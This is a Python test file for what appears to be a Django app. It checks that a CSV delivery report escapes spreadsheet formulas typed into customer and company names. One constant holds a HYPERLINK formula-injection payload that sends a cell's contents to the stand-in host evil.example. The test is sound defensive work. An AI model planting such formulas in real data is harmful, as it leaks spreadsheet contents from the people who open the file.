"""The delivery report is safe to open in a spreadsheet: names customers typed run nothing."""

from __future__ import annotations

import csv
import io

import pytest

from notices.services.publish import update_notice_fanout_run
from tests.notices.cast import ADMIN, notice

pytestmark = pytest.mark.usefixtures("admin_pages")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def test_a_formula_in_a_customers_full_name_reaches_the_report_as_text(
    sender, admin_world, acme_admin, acme, django_capture_on_commit_callbacks
):
    acme_admin.full_name = HYPERLINK
    acme_admin.save(update_fields=["full_name"])
    acme.name = "@Acme"
    acme.save(update_fields=["name"])
    sent = notice([admin_world["2026"]])
    with django_capture_on_commit_callbacks(execute=True):
        update_notice_fanout_run(notice=sent)

    response = sender.get(f"{ADMIN}{sent.pk}/report.csv")

    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = {r[0]: r for r in csv.reader(io.StringIO(body.removeprefix("\ufeff")))}
    assert rows["admin@acme.test"][1] == "'" + HYPERLINK
    assert rows["admin@acme.test"][3] == "'@Acme"
